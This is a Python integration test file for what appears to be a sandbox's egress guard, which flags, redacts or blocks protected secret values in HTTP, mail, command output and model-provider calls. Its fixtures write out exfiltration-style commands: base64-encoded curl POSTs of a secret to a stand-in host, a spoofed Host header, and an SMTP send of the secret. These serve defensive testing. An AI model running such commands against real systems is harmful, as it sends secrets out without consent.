"""The egress guard on real cells, ranges and evaluations."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from inspect_ai.log import read_eval_log
from tests.integration.conftest import Belljar

from belljar.cell.open import open_cell
from belljar.cell.parts import start_run
from belljar.events import Kind
from belljar.ledger.listing import read_events

pytestmark = [pytest.mark.vm, pytest.mark.slow]

SECRET = "ORCHID-7731-codename"
NUMBER = 7731009948113
POLICY = f"""belljar: 1
risk: low
network:
  stand_ins:
    shop: {{kind: http, names: [shop.example], routes: [{{path: "/{{rest...}}", methods: [GET, POST], body: hello}}]}}
guard:
  protect: [{{id: codename, value: {SECRET}}}]
  action: {{range: %s, output: %s}}
"""
SENDS = (
    f"printf {SECRET} | base64 | curl -s -o /dev/null -w '%{{http_code}} ' -d @-"
    " http://shop.example/a; curl -s -o /dev/null -w '%{http_code} ' -H 'Host: elsewhere.example'"
    f" -d {SECRET} http://shop.example/a; curl -s -o /dev/null -w '%{{http_code}} ' -d nothing"
    f" http://shop.example/b; echo {SECRET}"
)
"""One request with the value encoded, one with it that is refused anyway, one without it, and the
value in the command's output."""


def found(run: Path) -> list[dict[str, Any]]:
    """What the guard has put on record."""
    return [event.data for event in read_events(run) if event.kind is Kind.GUARD_HIT]


async def say(policy: Path, home: Path) -> tuple[bytes, Path]:
    """What the command prints, as its caller gets it, and the run's directory."""
    with start_run("test", None, [], home=home) as run:
        async with open_cell(policy, run=run, home=home) as cell:
            output = await cell.exec(["sh", "-c", SENDS])
    return output.stdout, run.path


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
@pytest.mark.anyio
async def test_what_leaves_a_cell_is_flagged(
    belljar: Belljar, tmp_path: Path, anyio_backend: str
) -> None:
    """A protected value in a request, in base64, and in a command's output: each is on record with
    its place and the number of the event that shows it, and everything goes on as without a guard.
    """
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY % ("flag", "flag"))
    output, run = await say(policy, belljar.home)
    assert output == f"200 421 200 {SECRET}\n".encode()
    hits = found(run)
    assert {(hit["place"], hit["action"], hit["value"]) for hit in hits} >= {
        ("range", "flag", "codename"),
        ("output", "flag", "codename"),
    }
    assert any(hit["decoding"] == ["base64"] for hit in hits if hit["place"] == "range")
    events = {event.seq: event.kind for event in read_events(run)}
    assert {events[hit["evidence"]] for hit in hits} >= {Kind.EXEC_COMPLETED}
    assert SECRET not in json.dumps(hits)


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
@pytest.mark.anyio
async def test_what_the_policy_blocks_does_not_pass(belljar: Belljar, tmp_path: Path) -> None:
    """The requests get 403 and reach no stand-in, the one beside them passes, and the output is
    without the value."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY % ("block", "redact"))
    output, run = await say(policy, belljar.home)
    assert output == b"403 403 200 [redacted]\n"
    actions = {(hit["place"], hit["action"]) for hit in found(run)}
    assert {("range", "block"), ("output", "redact")} <= actions
    answers = [e.data for e in read_events(run) if e.kind is Kind.NETWORK_HTTP_ANSWERED]
    assert [(answer["status"], answer.get("reason")) for answer in answers] == [
        (403, "blocked by the guard"),
        (403, "blocked by the guard"),
        (200, None),
    ]


MAIL = f"""
import smtplib
from email.message import EmailMessage

def send(body):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@x.example", "b@y.example", "hello"
    mail.set_content(body)
    with smtplib.SMTP("mail.example", 25, timeout=30) as server:
        try:
            return server.send_message(mail) or 250
        except (smtplib.SMTPServerDisconnected, ConnectionError):
            return "cut"
        finally:
            server.close()

print(send("the plan is {SECRET}"), send("lunch?"), send("x" * 300_000 + "{SECRET}" + "y" * 300_000))
"""


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
@pytest.mark.anyio
async def test_a_mail_that_is_blocked_is_cut(belljar: Belljar, tmp_path: Path) -> None:
    """As every other stream, also one of many pieces; the mail beside it is taken."""
    policy = tmp_path / "policy.yaml"
    stand_in = "    mail: {kind: smtp, names: [mail.example]}\n"
    policy.write_text((POLICY % ("block", "flag")).replace("guard:", f"{stand_in}guard:"))
    with start_run("test", None, [], home=belljar.home) as run:
        async with open_cell(policy, run=run, home=belljar.home) as cell:
            output = await cell.exec(["python3", "-c", MAIL])
    assert output.stdout_text.split() == ["cut", "250", "cut"], output.stderr
    mails = [
        e.data
        for e in read_events(run.path)
        if e.kind is Kind.NETWORK_ATTEMPT and e.data["what"] == "mail"
    ]
    assert [mail["complete"] for mail in mails].count(True) == 1


TASKS = f"""
from inspect_ai import Task, task
from inspect_ai.dataset import Sample
from inspect_ai.model import ChatMessageAssistant, ChatMessageTool, ChatMessageUser
from inspect_ai.solver import Generate, Solver, TaskState, solver
from inspect_ai.tool import ToolCall, ToolCallError
from inspect_ai.util import sandbox

@solver
def ask() -> Solver:
    async def solve(state: TaskState, generate: Generate) -> TaskState:
        said = await sandbox().exec(["sh", "-c", "echo {SECRET[:6]}''{SECRET[6:]}"])
        words, number = said.stdout.split(), {NUMBER}
        call = ToolCall(id="c1", function="look", arguments={{"for": ["the", "code " + words[0]], "card": number}})
        failed = ToolCallError("unknown", f"no {{words[0]}} here")
        state.messages += [
            ChatMessageUser(content="it said " + words[0]),
            ChatMessageAssistant(content="", tool_calls=[call]),
            ChatMessageTool(content="", tool_call_id="c1", function="look", error=failed),
        ]
        state.metadata["reached"] = "asked"
        state = await generate(state)
        state.metadata["reached"] = "answered"
        return state
    return solve

@task
def asks() -> Task:
    return Task(dataset=[Sample(id="a", input="x")], solver=ask())
"""


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("action", ["flag", "redact", "stop"])
@pytest.mark.thorough_in("flag")
def test_the_model_boundary(action: str, belljar: Belljar, tmp_path: Path) -> None:
    """What would be sent to a model's provider passes, passes without the values, or ends its
    sample, in texts, a tool call's arguments and a tool's error; the record says which."""
    (tmp_path / "tasks.py").write_text(TASKS)
    policy = tmp_path / "policy.yaml"
    protect = f"{{id: codename, value: {SECRET}}}, {{id: card, value: '{NUMBER}'}}"
    guard = f"guard: {{protect: [{protect}], action: {{model: {action}}}}}"
    policy.write_text(f"belljar: 1\nrisk: low\n{guard}\n")
    arguments = ["--policy", str(policy), str(tmp_path / "tasks.py"), "--model", "mockllm/model"]
    done = belljar("run", *arguments)
    run = belljar.runs()[-1]
    [log_file] = (run / "inspect").glob("*.eval")
    log = read_eval_log(str(log_file))
    assert log.samples is not None, done.stderr
    [sample] = log.samples
    asked = [event for event in sample.events if event.event == "model"]
    sent = "".join(message.model_dump_json() for event in asked for message in event.input)
    assert (SECRET in sent) == (str(NUMBER) in sent) == (action == "flag")
    assert sent.count("[redacted]") == (4 if action == "redact" else 0)
    assert (sample.limit is not None) == (action == "stop"), done.stderr
    at_model = [hit for hit in found(run) if hit["place"] == "model"]
    assert {hit["action"] for hit in at_model} == {action}
    everywhere = ["model.content", "model.tool_calls", "model.tool_calls", "model.error"]
    operations = [hit["operation"] for hit in at_model]
    assert operations == (everywhere[:1] if action == "stop" else everywhere)


ASKING = f"""
from inspect_ai import Task, task
from inspect_ai.dataset import Sample
from inspect_ai.model import GenerateConfig, get_model
from inspect_ai.solver import Generate, TaskState, solver
from inspect_ai.tool import ToolFunction, ToolInfo

@solver
def ask(by: str):
    async def solve(state: TaskState, generate: Generate) -> TaskState:
        config = GenerateConfig()
        if by == "stop":
            config = GenerateConfig(stop_seqs=["{SECRET}"])
        elif by == "seed":
            config = GenerateConfig(seed={NUMBER})
        await get_model().generate("x", config=config)
        return state
    return solve

@task
def asks(by: str) -> Task:
    return Task(dataset=[Sample(id="a", input="x")], solver=ask(by))
"""


@pytest.mark.parametrize("by", ["stop", "seed"])
def test_what_is_beside_the_messages_is_looked_at(
    by: str, belljar: Belljar, tmp_path: Path
) -> None:
    """A guest may choose a call's stop words and seed; nothing of them can be cut out, so a
    protected value in one ends the sample before its provider is asked."""
    (tmp_path / "tasks.py").write_text(ASKING)
    policy = tmp_path / "policy.yaml"
    protect = f"{{id: codename, value: {SECRET}}}, {{id: card, value: '{NUMBER}'}}"
    policy.write_text(
        f"belljar: 1\nrisk: low\nguard: {{protect: [{protect}], action: {{model: redact}}}}\n"
    )
    arguments = ["--policy", str(policy), str(tmp_path / "tasks.py"), "--model", "mockllm/model"]
    belljar("run", *arguments, "-T", f"by={by}")
    hits = [hit for hit in found(belljar.runs()[-1]) if hit["place"] == "model"]
    assert {hit["operation"] for hit in hits} == {"model.config"}
    kinds = {event.kind for event in read_events(belljar.runs()[-1])}
    assert Kind.GUARD_HIT in kinds
    assert Kind.MODEL_CALLED not in kinds


BESIDE = f"""
import json
from inspect_ai import Task, task
from inspect_ai.dataset import Sample
from inspect_ai.model import ChatMessageUser, ModelAPI, get_model, modelapi
from inspect_ai.solver import solver

class Keeping(ModelAPI):
    def keep(self, *sent):
        with open("sent.jsonl", "a") as file:
            print(json.dumps(sent, default=str), file=file)

    async def count_tokens(self, input, config=None):
        self.keep("count", input)
        return 1

    async def compact(self, input, tools, config, instructions=None):
        self.keep("compact", input, tools)
        return input, None

    async def generate(self, *_):
        raise NotImplementedError

@modelapi(name="keeping")
def keeping():
    return Keeping

@solver
def ask():
    async def solve(state, generate):
        asked = [ChatMessageUser(content="it said {SECRET}")]
        await get_model().count_tokens("so: {SECRET}")
        await get_model().count_tokens(asked)
        await get_model().compact(asked, [])
        return state
    return solve

@task
def asks() -> Task:
    return Task(dataset=[Sample(id="a", input="x")], solver=ask())
"""


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("action", ["redact", "stop"])
def test_counting_and_compacting_are_looked_at(
    action: str, belljar: Belljar, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Inspect asks a provider to count tokens and to compact messages without a hook: the provider
    gets no protected value then, and each call is on record."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tasks.py").write_text(BESIDE)
    policy = tmp_path / "policy.yaml"
    guard = f"guard: {{protect: [{{id: codename, value: {SECRET}}}], action: {{model: {action}}}}}"
    policy.write_text(f"belljar: 1\nrisk: low\n{guard}\n")
    done = belljar("run", "--policy", str(policy), "tasks.py", "--model", "keeping/m")
    run = belljar.runs()[-1]
    assert {hit["action"] for hit in found(run) if hit["place"] == "model"} == {action}, done.stderr
    calls = [event for event in read_events(run) if event.kind is Kind.MODEL_CALLED]
    assert len(calls) == (3 if action == "redact" else 0)
    kept = tmp_path / "sent.jsonl"
    sent = kept.read_text() if kept.exists() else ""
    assert SECRET not in sent
    assert sent.count("[redacted]") == len(calls)


LEAVING = f"""
from inspect_ai import Task, task
from inspect_ai.dataset import Sample
from inspect_ai.model import ModelOutput, ModelUsage, get_model
from inspect_ai.solver import Generate, TaskState, solver

@solver
def ask(scripted: bool):
    async def solve(state: TaskState, generate: Generate) -> TaskState:
        model = get_model()
        if scripted:
            answer = ModelOutput.from_content("mockllm/model", "yes")
            answer.usage = ModelUsage()
            model = get_model("mockllm/model", custom_outputs=[answer])
        await model.generate("is {SECRET} known?")
        return state
    return solve

@task
def asks(scripted: bool = False) -> Task:
    return Task(dataset=[Sample(id="a", input="x")], solver=ask(scripted))
"""
ANSWER = {
    "id": "1",
    "object": "chat.completion",
    "created": 0,
    "model": "m",
    "choices": [
        {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": "no"}}
    ],
    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
}


class Provider(BaseHTTPRequestHandler):
    """An OpenAI-compatible server, which keeps what it was sent."""

    sent: list[bytes]

    def do_POST(self) -> None:
        """Each request is answered alike."""
        self.sent.append(self.rfile.read(int(self.headers["content-length"])))
        answer = json.dumps(ANSWER).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *_: object) -> None:
        """Nothing is printed."""


def test_what_left_this_host_is_told(belljar: Belljar, tmp_path: Path) -> None:
    """The same task with a script, which leaves nothing, and with a provider's server, which gets
    one call without the protected value: the report of each says so, and so does `verdict`."""
    (tmp_path / "tasks.py").write_text(LEAVING)
    policy = tmp_path / "policy.yaml"
    guard = f"guard: {{protect: [{{id: codename, value: {SECRET}}}], action: {{model: redact}}}}"
    policy.write_text(f"belljar: 1\nrisk: low\n{guard}\n")
    run = ["run", "--policy", str(policy), str(tmp_path / "tasks.py"), "--model"]
    scripted = belljar(*run, "mockllm/model", "-T", "scripted=true")
    assert b"What left this host: nothing" in scripted.stdout, scripted.stdout + scripted.stderr
    left = json.loads((belljar.runs()[-1] / "findings.json").read_bytes())["left_this_host"]
    assert left == {"claim": "nothing", "destinations": [], "unknown": [], "lines": []}

    Provider.sent = []
    with ThreadingHTTPServer(("127.0.0.1", 0), Provider) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        place = f"127.0.0.1:{server.server_port}"
        url = f"http://user:word@{place}/v1"
        done = belljar(*run, "openai-api/local/m", LOCAL_BASE_URL=url, LOCAL_API_KEY="k")
        server.shutdown()
    assert b"What left this host: something" in done.stdout, done.stdout + done.stderr
    left = json.loads((belljar.runs()[-1] / "findings.json").read_bytes())["left_this_host"]
    (to,) = left["destinations"]
    assert (to["name"], to["addresses"], to["calls"]) == ("openai-api/local/m", [place], 1)
    assert to["protected"] == {"protected": {"redact": 1}}
    assert len(Provider.sent) == 1
    assert SECRET.encode() not in Provider.sent[0]
    assert 0 < to["sent_bytes"] < 2 * len(Provider.sent[0])
    judged = belljar("verdict", str(belljar.runs()[-1]), "--json")
    assert json.loads(judged.stdout)["left_this_host"] == left
